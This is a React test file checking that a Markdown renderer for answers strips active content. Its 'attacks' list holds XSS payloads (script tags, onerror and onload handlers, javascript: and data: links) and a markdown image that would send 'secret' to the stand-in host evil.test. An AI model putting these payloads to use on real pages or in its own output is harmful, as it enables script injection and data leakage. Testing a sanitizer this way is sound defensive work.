import { cleanup, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

afterEach(cleanup);

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<iframe src='https://evil.test'></iframe>",
  "![secret](https://evil.test/?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](http://evil.test)",
  "[click](//evil.test)",
  "<a href='javascript:alert(1)'>x</a>",
  "<svg onload=alert(1)>",
  "<style>@import 'https://evil.test'</style>",
  "<form action='https://evil.test'><input name=x></form>",
  "[x]: https://evil.test/i.png\n\n![x][x]",
];

describe("markdown of an answer", () => {
  it.each(attacks)("neither runs nor loads anything: %s", (text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelector("script, img, iframe, svg, style, form, input, object, embed, link")).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src/);
        if (name === "href") expect(value).toMatch(/^(https:|mailto:)/);
      }
    }
  });

  it("opens https links in a new tab without telling where they were followed", () => {
    render(<Markdown text="[docs](https://example.com)" />);
    const link = screen.getByRole("link", { name: "docs" });
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
  });

  it("draws tables, lists and code", () => {
    const { container } = render(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n`code`"} />);
    expect(container.querySelectorAll("td")).toHaveLength(2);
    expect(container.querySelector("li")?.textContent).toBe("x");
    expect(container.querySelector("code")?.textContent).toBe("code");
  });
});
